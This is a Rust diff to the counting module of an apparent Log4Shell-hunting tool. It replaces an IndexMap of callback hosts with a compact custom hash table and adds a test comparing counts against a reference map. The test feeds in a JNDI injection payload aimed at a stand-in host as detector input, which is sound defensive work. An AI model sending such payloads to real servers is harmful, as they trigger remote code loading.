@@ -7,9 +7,10 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write as _;
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 
-use hashbrown::{DefaultHashBuilder, HashMap};
-use indexmap::IndexMap;
-use indexmap::map::raw_entry_v1::{RawEntryApiV1, RawEntryMut};
+use std::hash::BuildHasher as _;
+
+use hashbrown::hash_table;
+use hashbrown::{DefaultHashBuilder, HashMap, HashTable};
 use serde::Serialize;
 
 use super::input::HuntTotals;
@@ -134,18 +135,98 @@ pub struct FirstHit {
     pub decoded_payload: String,
 }
 
+/// Callback hosts with their tallies, in first-seen order. The host names are kept one after
+/// the other in one string rather than a string each (nearly every host of a campaign is new,
+/// and each cost an allocation), and the hash table holds only 32-bit positions, so it stays
+/// small enough for the cache while the entries are appended.
+#[derive(Debug, Clone, Default)]
+struct TargetTable {
+    /// Positions in `entries`, by the hash of the host.
+    index: HashTable<u32>,
+    /// One per host, in first-seen order.
+    entries: Vec<TargetEntry>,
+    /// The host names, each at its entry's `start..end`.
+    names: String,
+    hasher: DefaultHashBuilder,
+}
+
+#[derive(Debug, Clone)]
+struct TargetEntry {
+    /// Hash of the host name, kept for growing the table without hashing again.
+    hash: u64,
+    start: usize,
+    end: usize,
+    tally: TargetTally,
+}
+
+impl TargetTable {
+    fn name(&self, entry: &TargetEntry) -> &str {
+        &self.names[entry.start..entry.end]
+    }
+
+    /// The tally of `host`, added empty when it is new; one hash and one probe either way.
+    fn entry(&mut self, host: &str) -> &mut TargetTally {
+        let hash = self.hasher.hash_one(host);
+        let Self {
+            index,
+            entries,
+            names,
+            ..
+        } = self;
+        let position = match index.entry(
+            hash,
+            |&i| &names[entries[i as usize].start..entries[i as usize].end] == host,
+            |&i| entries[i as usize].hash,
+        ) {
+            hash_table::Entry::Occupied(found) => *found.get() as usize,
+            hash_table::Entry::Vacant(vacant) => {
+                let position = entries.len();
+                let position_u32 =
+                    u32::try_from(position).expect("fewer than 2^32 distinct callback hosts");
+                let start = names.len();
+                names.push_str(host);
+                entries.push(TargetEntry {
+                    hash,
+                    start,
+                    end: names.len(),
+                    tally: TargetTally::default(),
+                });
+                vacant.insert(position_u32);
+                position
+            }
+        };
+        &mut entries[position].tally
+    }
+
+    fn get(&self, host: &str) -> Option<&TargetTally> {
+        let hash = self.hasher.hash_one(host);
+        self.index
+            .find(hash, |&i| self.name(&self.entries[i as usize]) == host)
+            .map(|&i| &self.entries[i as usize].tally)
+    }
+
+    fn iter(&self) -> impl Iterator<Item = (&str, &TargetTally)> {
+        self.entries
+            .iter()
+            .map(|entry| (self.name(entry), &entry.tally))
+    }
+
+    fn len(&self) -> usize {
+        self.entries.len()
+    }
+}
+
 /// Hits counted by class, callback host and source address.
 ///
-/// Hosts and sources are counted in insertion-ordered hash maps and sorted only when asked for:
-/// in a campaign nearly every hit names a new callback host, and keeping them ordered while
-/// counting (a B-tree of strings) cost more than finding the hit. The maps' tables hold only
-/// positions, so they stay small enough for the cache while the entries are appended.
+/// Hosts and sources are counted in hash tables and sorted only when asked for: in a campaign
+/// nearly every hit names a new callback host, and keeping them ordered while counting (a
+/// B-tree of strings) cost more than finding the hit.
 #[derive(Debug, Clone, Default)]
 pub struct Tally {
     /// Hits per class, indexed like [`HitClass::ALL`].
     class_hits: [u64; HitClass::ALL.len()],
     /// Callback hosts, lower-cased, with lookups left in place.
-    targets: IndexMap<Box<str>, TargetTally, DefaultHashBuilder>,
+    targets: TargetTable,
     /// IPv4 source addresses (as numbers, which hash faster than addresses) and their hit
     /// counts; nearly every hit of a campaign comes from a new one.
     sources_v4: HashMap<u32, u64>,
@@ -176,12 +257,7 @@ impl Tally {
             } else {
                 Cow::Borrowed(host)
             };
-            // One hash and probe per hit: nearly every host is new, and looking it up before
-            // inserting it searched the table twice.
-            let target = match self.targets.raw_entry_mut_v1().from_key(host.as_ref()) {
-                RawEntryMut::Occupied(entry) => entry.into_mut(),
-                RawEntryMut::Vacant(entry) => entry.insert(host.into(), TargetTally::default()).1,
-            };
+            let target = self.targets.entry(&host);
             target.hits += 1;
             if let Some(protocol) = &hit.protocol {
                 target.add_protocol(protocol.as_str());
@@ -232,11 +308,7 @@ impl Tally {
 
     /// Callback hosts (lower-cased, with lookups left in place) in name order.
     pub fn targets(&self) -> Vec<(&str, &TargetTally)> {
-        let mut targets: Vec<(&str, &TargetTally)> = self
-            .targets
-            .iter()
-            .map(|(host, target)| (host.as_ref(), target))
-            .collect();
+        let mut targets: Vec<(&str, &TargetTally)> = self.targets.iter().collect();
         targets.sort_unstable_by(|a, b| a.0.cmp(b.0));
         targets
     }
@@ -636,6 +708,36 @@ mod tests {
             [("jndi", 5)]
         );
         assert_eq!(tally.class_hits(HitClass::RecursionDos), 0);
+    }
+
+    #[test]
+    fn many_hosts_are_counted_as_a_map_would() {
+        let mut tally = Tally::default();
+        let mut reference: BTreeMap<String, u64> = BTreeMap::new();
+        let mut hit = hit("${jndi:ldap://a.example/x}");
+        for i in 0..20_000u64 {
+            // Repeats, upper case and long names among them.
+            let host = match i % 7 {
+                0 => format!("H{}.Example", i % 500),
+                1 => format!("{}.{}.example", "x".repeat((i % 90) as usize), i),
+                _ => format!("h{}.example", (i * 7919) % 9000),
+            };
+            *reference.entry(host.to_lowercase()).or_default() += 1;
+            hit.target_host = Some(host);
+            tally.record("t.log", &hit);
+        }
+        let counted: Vec<(&str, u64)> = tally
+            .targets()
+            .iter()
+            .map(|(host, target)| (*host, target.hits))
+            .collect();
+        let expected: Vec<(&str, u64)> = reference.iter().map(|(h, n)| (h.as_str(), *n)).collect();
+        assert_eq!(counted, expected);
+        assert_eq!(tally.distinct_targets(), reference.len());
+        for (host, hits) in &reference {
+            assert_eq!(tally.target(host).map(|t| t.hits), Some(*hits), "{host}");
+        }
+        assert!(tally.target("absent.example").is_none());
     }
 
     /// The row as it was first written, with `format!` widths: the hand-padded row must match.
